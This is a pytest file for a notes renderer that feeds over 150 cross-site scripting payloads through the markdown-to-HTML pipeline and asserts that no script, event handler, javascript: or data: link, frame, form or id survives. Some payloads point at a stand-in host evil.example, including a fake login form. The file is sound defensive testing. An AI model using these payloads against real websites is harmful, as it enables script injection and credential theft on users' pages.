"""Nothing that a text holds becomes active on a page: no script, handler, form, frame, style, id or odd target."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from episodes.notes.markdown.raw_html import RAW_TAGS
from episodes.notes.renderer import plain_text, render

ACTIVE = "alert(1)"
BARE = {
    "script": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<script>alert(1)",
        "</script><script>alert(1)</script>",
        "<script type=module>import('//evil.example')</script>",
        "`<script>`<script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml <script>alert(1)</script>?>",
        "<!DOCTYPE x [<script>alert(1)</script>]>",
    ],
    "handlers": [
        "<img src=x onerror=alert(1)>",
        "<img src='https://a.example/x' onerror='alert(1)'>",
        '<img src="https://a.example/" onload="alert(1)"/>',
        "<img/src=x/onerror=alert(1)>",
        "<b onmouseover=alert(1)>a</b>",
        "<a href=https://a.example onclick=alert(1)>a</a>",
        "<details open ontoggle=alert(1)>a</details>",
        "<body onload=alert(1)>",
        "<div onpointerenter=alert(1) style=position:fixed>a</div>",
        "<p ONCLICK = alert(1)>a</p>",
        "<video src=x onerror=alert(1)></video>",
        "<audio src onloadstart=alert(1)>",
        "<marquee onstart=alert(1)>a</marquee>",
        "<input autofocus onfocus=alert(1)>",
        "<select onfocus=alert(1) autofocus>",
        "<pre onclick=alert(1) tabindex=1 autofocus>a</pre>",
        "<td onclick=alert(1)>a</td>",
        "<xss onbeforematch=alert(1) hidden=until-found id=x>a</xss>",
        "<b a='\"><img src=x onerror=alert(1)>'>",
        "<b title='</b><img src=x onerror=alert(1)>'>a</b>",
        "<br onclick\x0b=alert(1)>",
        "<img src=x\x00 onerror=alert(1)>",
    ],
    "targets in html": [
        "<a href=javascript:alert(1)>a</a>",
        "<a href='JaVaScRiPt:alert(1)'>a</a>",
        "<a href='java\tscript:alert(1)'>a</a>",
        "<a href='java\nscript:alert(1)'>a</a>",
        "<a href=' javascript:alert(1)'>a</a>",
        "<a href='&#106;avascript:alert(1)'>a</a>",
        "<a href='&#x6A&#x61vascript&colon;alert(1)'>a</a>",
        "<a href='javascript&Tab;:alert(1)'>a</a>",
        "<a href='\x01javascript:alert(1)'>a</a>",
        "<a href='vbscript:msgbox(1)'>a</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
        "<a href='blob:https://a.example/1'>a</a>",
        "<a href='//evil.example'>a</a>",
        "<a href='file:///etc/passwd'>a</a>",
        "<a href='https:javascript:alert(1)'>a</a>",
        "<a href='http://a.example' target=_blank ping=//evil.example download>a</a>",
        "<a href='https://a.example/\"onclick=alert(1) x=\"'>a</a>",
        "<img src=javascript:alert(1)>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<img srcset='javascript:alert(1) 1x' src='https://a.example/'>",
        "<img src='https://a.example/' usemap=#m><map name=m><area href=javascript:alert(1)></map>",
        "<blockquote cite=javascript:alert(1)>a</blockquote>",
        "<q cite=javascript:alert(1)>a</q>",
    ],
    "foreign content": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)>",
        "<svg><use href='data:image/svg+xml,<svg/>'>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mi xlink:href=javascript:alert(1)>a</mi></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<template><img src=x onerror=alert(1)></template>",
        "<select><template><style><!--</style><img src=x onerror=alert(1)>--></select>",
        "<table><td><svg><desc><td><title><img src=x onerror=alert(1)>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<title><a title='</title><img src=x onerror=alert(1)>'>",
        "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    ],
    "styles": [
        "<style>@import '//evil.example/x.css';</style>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<p style='background:url(//evil.example)'>a</p>",
        "<div style='position:fixed;inset:0'>a</div>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<b class='site-header admin'>a</b>",
        "<span class='k dock player'>a</span>",
        "<code class='language-x\" onclick=alert(1)'>a</code>",
        "<figure class='code dock'>a</figure>",
    ],
    "frames, forms and pages": [
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe src='https://a.example/\"><script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<object data=//evil.example/x.swf><param name=a value=b></object>",
        "<embed src=javascript:alert(1)>",
        "<applet code=x></applet>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
        "<form action=//evil.example><input name=password><button>Log in</button></form>",
        "<button formaction=javascript:alert(1)>a</button>",
        "<isindex action=javascript:alert(1) type=image>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<dialog open>a</dialog>",
        "<portal src=//evil.example></portal>",
        "<episode-player data-key=1></episode-player>",
    ],
    "names that shadow the page's own": [
        "<a id=player href=https://a.example>a</a>",
        "<img name=cookie src=https://a.example/>",
        "<form id=document><input name=forms></form>",
        "<a id=x><a id=x name=y href=https://a.example>a</a>",
        "<b id=__proto__>a</b>",
        "<h2 id='share'>a</h2>",
        "<p slot=x part=y is=z>a</p>",
    ],
    "markdown": [
        "[a](javascript:alert(1))",
        "[a](JAVASCRIPT:alert(1))",
        "[a](javascript&colon;alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](java&Tab;script:alert(1))",
        "[a](<java\tscript:alert(1)>)",
        "[a](<javascript:alert(1) x>)",
        "[a](java\\script:alert(1))",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](data:image/png;base64,AAAA)",
        "[a](vbscript:alert(1))",
        "[a](file:///etc/passwd)",
        "[a](//evil.example)",
        '[a](https://a.example/"onmouseover=alert(1)//)',
        '[a](<https://a.example/" onmouseover="alert(1)>)',
        '[a](https://a.example "x\\" onclick=alert(1) ")',
        "[a](https://a.example 'x\" onclick=\"alert(1)')",
        "[a][b]\n\n[b]: javascript:alert(1)",
        "[a][b]\n\n[b]: <javascript:alert(1)>",
        '[a][b]\n\n[b]: https://a.example "x\\" onclick=\\"alert(1)"',
        "[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "<data:text/html,alert>",
        "<JavaScript:alert(1)//a@b.example>",
        '<mailto:a@b.example"onclick=alert(1)>',
        "![a](javascript:alert(1))",
        "![a](data:image/svg+xml;base64,PHN2Zz4=)",
        '![a](https://a.example/x"onerror=alert(1))',
        '![a" onerror=alert(1) x="](https://a.example/x)',
        "![a](https://a.example/x '\" onerror=alert(1) ')",
        "![<script>alert(1)</script>](https://a.example/x)",
        "[![a](javascript:alert(1))](javascript:alert(1))",
        "[<img src=x onerror=alert(1)>](https://a.example)",
        'https://a.example/"onclick=alert(1)',
        "https://a.example/<script>alert(1)</script>",
        "http://a.example/&quot;onclick=alert(1)",
        '```"><script>alert(1)</script>\na\n```',
        '```python" onclick="alert(1)\na\n```',
        "```html\n<script>alert(1)</script>\n```",
        "    <script>alert(1)</script>",
        "`<img src=x onerror=alert(1)>`",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "# <img src=x onerror=alert(1)>",
        "|<img src=x onerror=alert(1)>|\n|-|\n|<script>alert(1)</script>|",
        "- <svg\n  onload=alert(1)>",
        "> <iframe\n> src=javascript:alert(1)>",
        "\\<script>alert(1)\\</script>",
        "\x02wzxhzdk:0\x03 klzzwxh:0000 <b>",
        '<a href="https://a.example">[b](javascript:alert(1))</a>',
    ],
}
PAYLOADS = [pytest.param(text, id=f"{kind}: {text[:60]!r}") for kind, texts in BARE.items() for text in texts]
AROUND = [
    "{}",
    "a {} b",
    "- {}",
    "> {}",
    "**{}**",
    "a\n\n<div>\n{}\n</div>\n\nb",
    "<b>{}",
    "[{}](https://a.example)",
]

OURS = {
    "class",
    "href",
    "title",
    "rel",
    "src",
    "alt",
    "loading",
    "tabindex",
    "align",
    "start",
    "width",
    "height",
}
TARGET = re.compile(r"https?://[\w\[]|mailto:[^@\s]+@")
CLASS = re.compile(r"code|language-[a-z-]+|[a-z][a-z0-9]{0,2}")


class _Watch(HTMLParser):
    """Collects whatever has no business in a page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in RAW_TAGS:
            self.wrong.append(tag)
        self.wrong.extend(
            f"{tag} {name}={value}" for name, value in attrs if not self._is_good(name, value or "")
        )

    def _is_good(self, name: str, value: str) -> bool:
        if name in ("href", "src"):
            return bool(TARGET.match(value))
        if name == "class":
            return bool(CLASS.fullmatch(value))
        return name in OURS and (name != "tabindex" or value == "0")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"<?{data}")

    unknown_decl = handle_decl


def what_is_wrong(html: str) -> list[str]:
    watch = _Watch()
    watch.feed(html)
    watch.close()
    return watch.wrong


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_becomes_active(payload: str):
    for around in AROUND:
        html = render(around.replace("{}", payload))
        assert what_is_wrong(html) == [], around


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_browser_reads_the_same_again(payload: str):
    """HTML which changes when it is parsed and written once more can hide what a filter did not see."""
    import nh3

    html = render(payload)
    again = nh3.clean(
        html,
        tags=set(RAW_TAGS),
        attributes={tag: OURS - {"rel"} for tag in RAW_TAGS},
        link_rel=None,
        clean_content_tags=set(),
    )
    assert sorted(again) == sorted(html)
    assert plain_text(again) == plain_text(html)


def test_references_pass_the_same_way():
    html = render("[a] [b]", references="[a]: javascript:alert(1)\n[b]: https://b.example '\"><script>'")
    assert what_is_wrong(html) == []
    assert html.count("<a ") == 1


def test_there_are_payloads_enough():
    assert len(PAYLOADS) > 150


@pytest.mark.parametrize(
    "html", ["<script>x</script>", "<b onclick=x>", "<a href=javascript:x>", "<p id=x>", "<!--x-->"]
)
def test_the_watch_sees_what_is_wrong(html: str):
    assert what_is_wrong(html)
